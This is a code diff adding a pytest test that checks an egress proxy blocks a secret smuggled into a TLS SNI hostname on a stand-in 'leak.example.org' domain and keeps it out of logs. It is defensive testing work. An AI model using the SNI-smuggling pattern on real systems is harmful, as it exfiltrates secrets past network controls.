@@ -234,3 +234,22 @@ def test_absolute_form_https_request_is_fetched_over_verified_tls(harness, tls_u
                               "Connection: close\r\n\r\n".encode())
     assert out.startswith(b"HTTP/1.1 200") and out.endswith(b"hello from upstream")
     assert p.sink.records[-1].destination == f"https://{HOST}:{tls_upstream.port}/hello"
+
+
+def test_secret_in_mismatched_sni_is_reported_not_recorded(harness, tls_upstream, test_ca):
+    resolver = FakeResolver({HOST: ["127.0.0.1"]})
+    p = harness.proxy(resolver=resolver, connector=RefusingConnector())
+    s, head = connect_raw(p.port, f"{HOST}:{tls_upstream.port}")
+    assert head.startswith(b"HTTP/1.1 200")
+    ctx = trusting(ca_file(test_ca))
+    ctx.check_hostname = False
+    with pytest.raises((ssl.SSLError, ConnectionError, OSError)):
+        tls = ctx.wrap_socket(s, server_hostname=f"{SECRET.lower()}.leak.example.org")
+        if not tls.recv(100):
+            raise ConnectionError("closed")
+    s.close()
+    rec = p.sink.records[-1]
+    assert rec.action == "block" and "egress.sni_mismatch" in rec.rules
+    dumped = json.dumps(rec.to_dict())
+    assert SECRET.lower() not in dumped and "example.org (mismatch)" in dumped
+    assert tls_upstream.connections == 0
